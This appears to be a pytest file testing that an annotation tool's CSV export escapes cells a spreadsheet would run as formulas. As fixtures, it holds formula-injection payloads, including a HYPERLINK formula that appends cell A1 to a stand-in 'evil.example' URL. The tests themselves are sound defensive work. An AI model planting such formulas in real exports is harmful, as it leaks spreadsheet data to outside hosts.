"""CSV formula injection: a cell a spreadsheet would run as a formula is written as text."""

from __future__ import annotations

import csv

import pytest

from annotate.exporting.build import csv_cell, judgments_export_raw
from annotate.services import JudgmentInput, comparison_assign_next, judgment_record


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("plain text", "plain text"),
        ("a=b", "a=b"),
        (None, ""),
        (-3, -3),  # numbers are numbers
        (1.5, 1.5),
    ],
)
def test_it_escapes_cells_that_start_a_formula(value, cell):
    assert csv_cell(value) == cell


def test_it_writes_a_formula_rationale_as_text_in_the_raw_csv(alice, project, comparisons, tmp_path):
    assignment = comparison_assign_next(labeler=alice, project=project)
    rationale = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    judgment_record(
        labeler=alice,
        assignment_id=assignment.pk,
        data=JudgmentInput(choice="tie", client_id="-c1", rationale=rationale),
    )
    out = tmp_path / "raw.csv"
    assert judgments_export_raw(project=project, out_path=out, fmt="csv") == 1
    (row,) = csv.DictReader(out.open(newline="", encoding="utf-8"))
    assert row["rationale"] == "'" + rationale
    assert row["client_id"] == "'-c1"
    assert row["choice"] == "tie" and row["labeler"].startswith("L-")
